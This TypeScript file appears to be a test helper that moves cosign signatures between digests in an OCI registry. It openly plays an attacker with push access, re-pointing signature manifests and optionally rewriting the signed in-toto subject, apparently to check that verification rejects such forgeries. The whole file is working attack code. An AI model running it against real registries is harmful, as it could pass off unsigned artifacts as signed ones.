// What an attacker with push access can do to a cosign signature in the registry, through the
// plain OCI distribution API: attach a chart's signature to another digest, with or without
// rewriting the signed claim to name that digest. The test registry has no referrers API, so cosign
// keeps a digest's signatures in the index tagged `sha256-<hex>` (the OCI 1.1 fallback).
import { createHash } from "node:crypto";

const manifestType = "application/vnd.oci.image.manifest.v1+json";
const indexType = "application/vnd.oci.image.index.v1+json";

interface Descriptor {
  mediaType: string;
  digest: string;
  size: number;
  artifactType?: string;
}

interface SignatureManifest {
  layers: Descriptor[];
  subject: Descriptor;
  [field: string]: unknown;
}

interface Bundle {
  dsseEnvelope: { payload: string; [field: string]: unknown };
  [field: string]: unknown;
}

const sha256 = (body: Buffer | string) => `sha256:${createHash("sha256").update(body).digest("hex")}`;
const fallbackTag = (digest: string) => digest.replace(":", "-");

async function get(url: string, accept?: string): Promise<Buffer> {
  const response = await fetch(url, { headers: accept ? { Accept: accept } : {} });
  if (!response.ok) throw new Error(`GET ${url}: ${response.status}`);
  return Buffer.from(await response.arrayBuffer());
}

async function putBlob(base: string, body: Buffer): Promise<string> {
  const started = await fetch(`${base}/blobs/uploads/`, { method: "POST" });
  const location = started.headers.get("location");
  if (started.status !== 202 || !location) throw new Error(`blob upload refused: ${started.status}`);
  const digest = sha256(body);
  const url = new URL(location, base);
  url.searchParams.set("digest", digest);
  const put = await fetch(url, {
    method: "PUT",
    body: new Uint8Array(body),
    headers: { "Content-Type": "application/octet-stream" },
  });
  if (put.status !== 201) throw new Error(`blob upload failed: ${put.status}`);
  return digest;
}

async function putManifest(base: string, reference: string, body: string, mediaType: string): Promise<void> {
  const put = await fetch(`${base}/manifests/${reference}`, {
    method: "PUT",
    body,
    headers: { "Content-Type": mediaType },
  });
  if (put.status !== 201) throw new Error(`manifest ${reference} refused: ${put.status} ${await put.text()}`);
}

/** The signed in-toto claim, with its subject changed to `digest`; the signature is left as it was. */
function claimFor(bundle: Bundle, digest: string): Bundle {
  const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
  statement.subject = [{ digest: { sha256: digest.replace("sha256:", "") } }];
  const payload = Buffer.from(JSON.stringify(statement)).toString("base64");
  return { ...bundle, dsseEnvelope: { ...bundle.dsseEnvelope, payload } };
}

/**
 * Copies the signatures of `from` onto `to` in repository `repo` of the registry at `host`
 * (plain HTTP, no auth); with `rewriteClaim`, each signed claim is edited to name `to`.
 */
export async function moveSignatures(
  host: string,
  repo: string,
  from: string,
  to: string,
  rewriteClaim: boolean,
): Promise<void> {
  const base = `http://${host}/v2/${repo}`;
  const index = JSON.parse((await get(`${base}/manifests/${fallbackTag(from)}`, indexType)).toString());
  const target = await get(`${base}/manifests/${to}`, manifestType);
  const subject: Descriptor = { mediaType: manifestType, digest: to, size: target.length };
  const moved: Descriptor[] = [];
  for (const entry of index.manifests as Descriptor[]) {
    const manifest = await get(`${base}/manifests/${entry.digest}`, manifestType);
    const signature = JSON.parse(manifest.toString()) as SignatureManifest;
    let layers = signature.layers;
    if (rewriteClaim) {
      layers = [];
      for (const layer of signature.layers) {
        const bundle = JSON.parse((await get(`${base}/blobs/${layer.digest}`)).toString()) as Bundle;
        const edited = Buffer.from(JSON.stringify(claimFor(bundle, to)));
        layers.push({ ...layer, digest: await putBlob(base, edited), size: edited.length });
      }
    }
    const body = JSON.stringify({ ...signature, layers, subject });
    const digest = sha256(body);
    await putManifest(base, digest, body, manifestType);
    moved.push({ ...entry, digest, size: Buffer.byteLength(body) });
  }
  await putManifest(base, fallbackTag(to), JSON.stringify({ ...index, manifests: moved }), indexType);
}
